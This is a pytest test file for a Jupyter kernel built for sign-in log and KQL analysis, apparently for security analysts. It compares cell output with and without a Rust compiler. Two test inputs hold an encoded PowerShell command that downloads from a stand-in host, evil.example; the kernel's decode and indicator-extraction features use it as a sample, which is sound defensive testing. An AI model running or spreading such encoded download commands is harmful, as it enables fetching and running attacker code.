"""Cells that need no compiler: one call of ours with literal arguments, and `%%kql`."""

import re
import time

import pytest

from jupyter import Kernel

# What to call each kind of argument with; a call with an argument that is not here fails the test below.
ARGUMENTS = {
    "text": "powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC8AYQA= hxxp://evil[.]example/b",
    "name": "adelev@contoso.com",
    "names, with commas between them": "adelev@contoso.com, johns, nobody",
    "host": "SRV-FIN01",
    "KQL text": "SigninLogs | summarize count() by ResultType",
    "zone": "Europe/Berlin",
    "words": "account",
    "name, address or any other text": "adelev",
}


@pytest.fixture(scope="module")
def without_compiler(tmp_path_factory):
    """A kernel that finds no rustc: what it answers was not compiled."""
    empty = tmp_path_factory.mktemp("path")
    kernel = Kernel(NBLT_WORKSPACE="", PATH=f"/usr/bin:/bin:{empty}")
    yield kernel
    kernel.stop()


def registered_calls(kernel):
    """Every call that help() lists, with the names of its arguments in quotes."""
    # Not what a sentence says of a result: acc.save("folder")?
    rows = re.findall(r"(?<![\w.])((?:\w+::nblt\(\)\.)?\w+\([^()\n]*\)\??)", kernel.run("help()").plain)
    calls = [it for it in dict.fromkeys(rows) if not it.startswith(("set_span", "last", "between"))]
    assert len(calls) >= 6, calls
    return calls


def with_arguments(call, folder, kept):
    examples = ARGUMENTS | {"folder or file": str(folder), "file or folder": str(folder), "folder": str(kept)}

    def value(match):
        assert match[1] in examples, f"name an example for the argument {match[1]!r} of {call}"
        return '"' + examples[match[1]] + '"'

    return re.sub(r'"([^"]*)"', value, call)


# What is called on the value of a call.
STEPS = [
    'Account::nblt().account_summary("adele")?.select("madeleine@contoso.com")?',
    'Account::nblt().account_summary("adelev@contoso.com")?.before_after("2026-03-05 09:14")?',
    'Account::nblt().account_summaries("adelev@contoso.com, johns")?.select("adelev@contoso.com")?',
    'Account::nblt().between(TimeSpan::parse("2026-03-05", "2026-03-06")?).account_summary("adele")?.select("nobody")',
    'query("SigninLogs | take 5")?.table()',
    'decode("powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvAGUAdgBpAGwALgBlAHgAYQBtAHAAbABlAC8AYQA=")?.iocs()?',
]


def over_other_times(call):
    """A call about an entity, with each way to say the time in front of it."""
    if "::nblt()." not in call:
        return []
    times = [
        "last(days(20_000))",
        "last(hours(2))",
        "between(last(minutes(5)))",
        "between(Span::Data)",
        'between(TimeSpan::parse("2026-03-05 08:00", "2026-03-05T12:00:00Z")?)',
    ]
    return [call.replace("::nblt().", f"::nblt().{it}.") for it in times]


def both_ways(kernel, call):
    """The same call run without and with the compiler, within one minute of the clock, which spans end at."""
    while True:
        minute = time.time() // 60
        direct = kernel.run(call)
        # A block is no single call, so this goes to the compiler.
        compiled = kernel.run("{ " + call + " }")
        if time.time() // 60 == minute:
            return direct, compiled


def check_both_ways(kernel, call, may_fail=False):
    direct, compiled = both_ways(kernel, call)
    assert direct.status == compiled.status, call
    assert direct.error == compiled.error and (may_fail or not direct.error), f"{call}: {direct.error} {compiled.error}"
    assert comparable(direct) == comparable(compiled), call


def comparable(outcome):
    """All outputs in their last state, without what differs from run to run."""
    text = "\n----\n".join(f"{it.get('text/plain', '')}\n{it.get('text/html', '')}" for it in outcome.shown)
    text = re.sub(r"\d+\.\d+ s\b", "N s", text)
    return re.sub(r"[0-9a-f]{20,}|nblt-\d+-\d+", "ID", text)


def test_every_call_shows_the_same_with_and_without_the_compiler(tmp_path):
    kernel = Kernel(NBLT_WORKSPACE="")
    folder, kept = tmp_path / "exported", tmp_path / "kept"
    folder.mkdir()
    (folder / "SigninLogs.csv").write_text("TimeGenerated,UserPrincipalName\n2026-03-05T10:00:00Z,kim@contoso.com\n")
    (folder / "networks.csv").write_text("range,name\n192.0.2.0/24,Office\n")
    outcome = kernel.run(f'Account::nblt().account_summary("adelev@contoso.com")?.save("{kept}")?')
    assert outcome.status == "ok", outcome.error
    calls = [with_arguments(it, folder, kept) for it in registered_calls(kernel)]
    folders = [it for it in calls if it.startswith("connect")]
    calls.sort(key=folders.__contains__)
    for call in calls[: -len(folders)] + STEPS:
        check_both_ways(kernel, call)
    for call in [it for call in calls for it in over_other_times(call)]:
        # Of some hours without a process start there is nothing to say but that.
        check_both_ways(kernel, call, may_fail="logon_session_rarity" in call)
    for call in folders:
        check_both_ways(kernel, call)
    kernel.stop()


def test_the_time_of_all_calls_can_be_set_with_and_without_the_compiler(kernel):
    spans = ["last(days(20_000))", "last(seconds(-30))", 'TimeSpan::parse("2026-03-05", "2026-03-05")?', "Span::Data"]
    summary = 'Account::nblt().account_summary("adelev@contoso.com")?'
    seen = set()
    for span in spans:
        after = []
        for code in [f"set_span({span})", f"{{ set_span({span}) }}"]:
            outcome = kernel.run(code)
            assert outcome.status == "ok" and not outcome.text.strip(), f"{code}: {outcome.text}"
            after.append(kernel.run('query("SigninLogs | count")?').plain + kernel.run(summary).plain)
            kernel.run("{ set_span(Span::Data) }")
        # Spans up to now end at the minute of the clock, and queries say how long they took.
        direct, compiled = (re.sub(r"\d+\.\d+ s|to \d{4}-\d\d-\d\d \d\d:\d\d UTC", "", it) for it in after)
        assert re.sub(r"\d{4}-\d\d-\d\d \d\d:\d\d to", "", direct) == re.sub(r"\d{4}-\d\d-\d\d \d\d:\d\d to", "", compiled)
        seen.add(direct)
    assert len(seen) == len(spans), "each is another time"


def test_an_error_is_the_same_with_and_without_the_compiler(kernel):
    calls = [
        'query("SigninLog | take 1")?',
        'Account::nblt().account_summary("")?',
        'connect("/no/such/folder")?',
        'Account::nblt().last(days(7)).account_summary("")?',
        'Account::nblt().account_summary("adele")?.select("nobody")?',
    ]
    for call in calls:
        direct, compiled = kernel.run(call), kernel.run("{ " + call + " }")
        assert direct.status == compiled.status == "error"
        assert direct.error == compiled.error and direct.error.strip(), call
        shown = call.removesuffix("?")
        direct, compiled = kernel.run(shown), kernel.run("{ " + shown + " }")
        assert direct.status == compiled.status == "ok"
        assert comparable(direct) == comparable(compiled) and direct.plain, call
    # An error inside ends the cell, with or without `?` at its end.
    for span in ['"2026-03-06", "2026-03-05"', '"yesterday", "2026-03-05"']:
        for end in ["", "?"]:
            call = f'Account::nblt().between(TimeSpan::parse({span})?).account_summary("adele"){end}'
            direct, compiled = kernel.run(call), kernel.run("{ " + call + " }")
            assert direct.status == compiled.status == "error"
            assert direct.error == compiled.error and direct.error.strip(), call
    call = 'Account::nblt().account_summary("")?.select("adele")'
    direct, compiled = kernel.run(call), kernel.run("{ " + call + " }")
    assert direct.status == compiled.status == "error" and direct.error == compiled.error
    direct, compiled = kernel.run('set_span(TimeSpan::parse("x", "y")?)'), kernel.run('{ set_span(TimeSpan::parse("x", "y")?) }')
    assert direct.status == compiled.status == "error" and direct.error == compiled.error


def test_calls_are_answered_without_any_compiler(without_compiler):
    outcome = without_compiler.run('Account::nblt().account_summary("adele")?')
    assert outcome.status == "ok" and "adelev@contoso.com" in outcome.plain
    outcome = without_compiler.run("%%kql\nSigninLogs | count")
    assert outcome.status == "ok" and "Count" in outcome.plain
    for call in STEPS + over_other_times('Account::nblt().account_summary("adelev@contoso.com")?'):
        outcome = without_compiler.run(call)
        assert outcome.status == "ok" and outcome.plain, f"{call}: {outcome.error}"
    outcome = without_compiler.run('let rows = query("SigninLogs | count")?;\nrows')
    assert outcome.status == "error" and "Count" in outcome.plain, "only the variable needs the compiler"
    outcome = without_compiler.run("1 + 1")
    assert outcome.status == "error"
    assert "rustc" in outcome.error and "rustup.rs" in outcome.error, "says what is missing and how to get it"
    assert without_compiler.run("tables()?").status == "ok"


def test_the_first_call_is_answered_before_the_compiler_is_ready():
    started = time.monotonic()
    kernel = Kernel(NBLT_WORKSPACE="")
    try:
        assert "adelev@contoso.com" in kernel.run('Account::nblt().account_summary("adele")?').plain
        answered = time.monotonic() - started
        assert kernel.run("1 + 1").plain == "2"
        compiled = time.monotonic() - started
        assert answered < compiled
    finally:
        kernel.stop()


def test_a_binding_shows_at_once_and_is_a_variable(kernel):
    outcome = kernel.run('let acc = Account::nblt().account_summary("adelev@contoso.com")?;')
    assert outcome.status == "ok" and "adelev@contoso.com" in outcome.plain
    assert int(kernel.run("acc.matches().len()").plain) >= 1
    outcome = kernel.run(
        'let there = Account::nblt().between(TimeSpan::parse("2026-03-05", "2026-03-06")?).account_summary("adele")?'
        '.select("madeleine@contoso.com")?;'
    )
    assert outcome.status == "ok" and "madeleine@contoso.com" in outcome.plain
    assert "madeleine@contoso.com" in kernel.run("there.selected()").plain
    assert "2026-03-06" in kernel.run("there.span()").plain
    call = 'Account::nblt().account_summary("adelev@contoso.com")?'
    alone, both = kernel.run(call), kernel.run(f"let both = {call};\nboth")
    assert both.status == "ok" and comparable(alone) == comparable(both), "once, as without the variable"
    assert int(kernel.run("both.matches().len()").plain) >= 1
    outcome = kernel.run("%%kql failures\nSigninLogs | where ResultType != '0' | project UserPrincipalName, ResultType")
    assert outcome.status == "ok" and "ResultType" in outcome.plain
    assert kernel.run("failures.width()").plain == "2"


def test_a_redefined_name_is_the_analysts(kernel):
    kernel.run("fn tables_of_mine() -> u32 { 7 }")
    assert kernel.run("tables()?").status == "ok"
    fresh = Kernel(NBLT_WORKSPACE="")
    try:
        assert fresh.run("let help: fn() -> u32 = || 41 + 1;").status == "ok"
        assert fresh.run("help()").plain == "42"
    finally:
        fresh.stop()


def test_cells_keep_their_order_and_their_numbers(kernel):
    codes = ["let order = 1;", "tables()?", "order + 1", "%%kql\nSigninLogs | count", "order + 2"]
    requests = [kernel.client.execute(it, allow_stdin=False) for it in codes]
    ends, numbers = [], []
    while len(ends) < len(requests):
        message = kernel.client.get_iopub_msg(timeout=60)
        if message["msg_type"] == "execute_input":
            numbers.append(message["content"]["execution_count"])
        if message["msg_type"] == "status" and message["content"]["execution_state"] == "idle":
            ends.append(message["parent_header"]["msg_id"])
    assert ends == requests
    assert numbers == list(range(numbers[0], numbers[0] + len(codes)))
    for request, number in zip(requests, numbers, strict=True):
        reply = kernel.client.get_shell_msg(timeout=10)
        assert reply["parent_header"]["msg_id"] == request
        assert reply["content"]["execution_count"] == number


def test_cells_behind_a_failed_one_are_not_run(kernel):
    # Both written before either is sent, as by a page that runs all cells: the first fails within a millisecond.
    codes = ['query("nonsense |")?', "let must_not_be = 1;"]
    options = {"silent": False, "store_history": True, "user_expressions": {}, "allow_stdin": False}
    requests = [
        kernel.client.session.msg("execute_request", {"code": it, "stop_on_error": True, **options}) for it in codes
    ]
    for request in requests:
        kernel.client.shell_channel.send(request)
    failing, behind = (it["header"]["msg_id"] for it in requests)
    replies = {}
    while len(replies) < 2:
        reply = kernel.client.get_shell_msg(timeout=60)
        replies[reply["parent_header"]["msg_id"]] = reply["content"]["status"]
    assert replies == {failing: "error", behind: "aborted"}
    kernel.drain()
    assert kernel.run("must_not_be").status == "error"


def test_a_wrong_kql_cell_shows_the_place(kernel):
    outcome = kernel.run("%%kql\nSigninLogs\n| where UserPrincipleName == 'x'")
    assert outcome.status == "error"
    assert "^" in outcome.error and "UserPrincipalName" in outcome.error
    outcome = kernel.run("%%kql SigninLogs | take 1")
    assert outcome.status == "error" and "at most one name" in outcome.error


def asked(kernel, request):
    while True:
        reply = kernel.client.get_shell_msg(timeout=60)
        if reply["parent_header"]["msg_id"] == request:
            return reply["content"]


def test_tab_and_shift_tab_in_a_kql_cell(without_compiler):
    client = without_compiler.client
    code = "%%kql\nSigninLogs | where UserPr"
    reply = asked(without_compiler, client.complete(code, len(code)))
    assert "UserPrincipalName" in reply["matches"]
    assert code[reply["cursor_start"] : reply["cursor_end"]] == "UserPr"
    reply = asked(without_compiler, client.inspect("%%kql\nSigninLogs | where x", 22))
    assert reply["found"] and "where" in reply["data"]["text/plain"]


def test_tab_in_a_rust_cell_offers_our_calls(kernel):
    code = "Account::nblt().account_s"
    reply = asked(kernel, kernel.client.complete(code, len(code)))
    assert any(it.startswith("account_summary") for it in reply["matches"]), reply


def test_the_history_has_the_cells_of_this_kernel(kernel):
    kernel.run("let remembered = 1;")
    reply = asked(kernel, kernel.client.history(hist_access_type="tail", n=1))
    assert reply["history"][-1][2] == "let remembered = 1;"


def test_core_03_in_silence_a_call_shows_only_what_the_cell_ends_in():
    kernel, progress = Kernel(NBLT_WORKSPACE=""), re.compile(r"searched \d+ tables")
    try:
        loud = kernel.run('let a = Account::nblt().account_summary("adelev@contoso.com")?;')
        assert "Account summary" in loud.plain and progress.search(loud.plain)
        assert not kernel.run("set_silent(true);").error
        quiet = kernel.run('let b = Account::nblt().account_summary("adelev@contoso.com")?;')
        assert not quiet.error and not quiet.plain.strip(), quiet.plain
        for code in ["b", 'let c = tables()?; c', "tables()?"]:
            shown = kernel.run(code)
            assert not shown.error and shown.plain.strip() and not progress.search(shown.plain), shown.plain
        # What is compiled is as silent.
        compiled = kernel.run('let d = { let name = "adelev@contoso.com"; Account::nblt().account_summary(name)? };')
        assert not compiled.error and not compiled.plain.strip(), compiled.plain
        kernel.run("set_silent(false);")
        assert progress.search(kernel.run('Account::nblt().account_summary("adelev@contoso.com")?').plain)
    finally:
        kernel.stop()
